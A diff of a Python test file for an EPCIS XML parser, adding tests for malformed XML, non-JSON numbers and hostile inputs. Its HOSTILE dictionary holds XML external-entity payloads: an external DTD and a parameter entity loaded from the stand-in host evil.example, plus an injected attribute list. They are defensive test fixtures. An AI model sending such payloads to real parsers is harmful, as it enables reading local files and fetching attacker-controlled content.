@@ -428,8 +428,15 @@ def test_a_prefix_bound_to_two_namespaces_gets_two_json_prefixes():
             "eventTime",
             "with seconds",
         ),
-        (("</ot:village>", "</village>"), None, "", ""),
-        (("<ObjectEvent>", "<QuantityEvent>"), 1, "type", "QuantityEvent was withdrawn"),
+        (
+            (
+                "<ObjectEvent>\n        <eventTime>2026-03-01",
+                "<QuantityEvent><eventTime>2026-03-01",
+            ),
+            1,
+            "type",
+            "QuantityEvent was withdrawn",
+        ),
         (
             ('<bizTransaction type="', '<bizTransaction kind="x" type="'),
             2,
@@ -449,11 +456,7 @@ def test_a_prefix_bound_to_two_namespaces_gets_two_json_prefixes():
 )
 def test_structure_problems_name_event_element_and_line(change, event, field, text):
     raw = docs.xml_document("2.0", change)
-    if field == "":  # a mismatched end tag: not XML at all
-        with pytest.raises(epcis_xml.XmlRefused, match=r"not well-formed XML: .* \(line \d+\)"):
-            epcis_xml.read_xml(raw)
-        return
-    if change[0] == "<ObjectEvent>":
+    if b"<QuantityEvent>" in raw:
         raw = raw.replace(b"</ObjectEvent>", b"</QuantityEvent>", 1)
     _, result = epcis_xml.read_xml(raw)
     assert not result.events
@@ -461,6 +464,12 @@ def test_structure_problems_name_event_element_and_line(change, event, field, te
         p.event == event and p.field == field and text in p.message for p in result.problems
     ), [str(p) for p in result.problems]
     assert all("(line " in p.message for p in result.problems if p.field == field)
+
+
+def test_malformed_xml_names_the_line():
+    raw = docs.xml_document("2.0", ("</ot:village>", "</village>"))
+    with pytest.raises(epcis_xml.XmlRefused, match=r"not well-formed XML: .*village.* \(line 18\)"):
+        epcis_xml.read_xml(raw)
 
 
 def test_version_mismatch_and_empty_documents():
@@ -492,6 +501,9 @@ HOSTILE = {
     "external dtd": b"""<?xml version="1.0"?>
 <!DOCTYPE d SYSTEM "http://evil.example/epcis.dtd">
 <epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2"/>""",
+    "attribute list": b"""<?xml version="1.0"?>
+<!DOCTYPE d [<!ATTLIST ObjectEvent x CDATA "injected">]>
+<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2"/>""",
     "parameter entity": b"""<?xml version="1.0"?>
 <!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>
 <epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2"/>""",
@@ -500,7 +512,7 @@ HOSTILE = {
 
 @pytest.mark.parametrize("name", sorted(HOSTILE))
 def test_hostile_xml_is_refused(name):
-    with pytest.raises(epcis_xml.XmlRefused, match=r"DTD or entities|not well-formed") as e:
+    with pytest.raises(epcis_xml.XmlRefused, match=r"declares a DTD \(line 2\)") as e:
         epcis_xml.read_xml(HOSTILE[name])
     assert "root:" not in str(e.value)  # nothing of /etc/passwd
 
@@ -594,7 +606,7 @@ def test_api_lists_the_problems_of_invalid_xml(api_a):
 def test_api_refuses_hostile_xml(api_a, name):
     response = _post_xml(api_a, HOSTILE[name])
     assert response.status_code == 400
-    assert "DTD or entities" in response.json()["detail"]
+    assert "declares a DTD (line 2)" in response.json()["detail"]
 
 
 def test_openapi_names_the_xml_content_types():
@@ -624,6 +636,35 @@ def test_capture_form_lists_the_problems_of_xml(web_a):
     assert response.status_code == 200
     assert "&#x27;CREATE&#x27;" in response.content.decode()
     assert not EpcisEvent.objects.exists()
+
+
+def _sensor_value(value: str) -> tuple[str, str]:
+    element = f'<sensorElement><sensorReport type="gs1:Mass" value="{value}"/></sensorElement>'
+    return ("<ilmd>", f"<sensorElementList>{element}</sensorElementList><ilmd>")
+
+
+@pytest.mark.parametrize(
+    ("change", "field"),
+    [
+        (("<quantity>120.0</quantity>", "<quantity>1e3</quantity>"), "quantityList[0].quantity"),
+        (
+            ("<quantity>120.0</quantity>", f"<quantity>{'9' * 5000}</quantity>"),
+            "quantityList[0].quantity",
+        ),
+        (_sensor_value("INF"), "sensorElementList[0].sensorReport[0].value"),
+        (_sensor_value("NaN"), "sensorElementList[0].sensorReport[0].value"),
+    ],
+)
+def test_numbers_without_a_json_form_are_refused(change, field):
+    _, result = epcis_xml.read_xml(docs.xml_document("2.0", change))
+    assert [(p.event, p.field) for p in result.problems] == [(1, field)]
+
+
+def test_a_sensor_double_in_exponent_form_is_a_number():
+    document, result = epcis_xml.read_xml(docs.xml_document("2.0", _sensor_value("1.5E2")))
+    assert result.ok, [str(p) for p in result.problems]
+    report = document["epcisBody"]["eventList"][0]["sensorElementList"][0]["sensorReport"][0]
+    assert report == {"type": "Mass", "value": 150.0}
 
 
 def test_deeply_nested_extensions_are_refused():
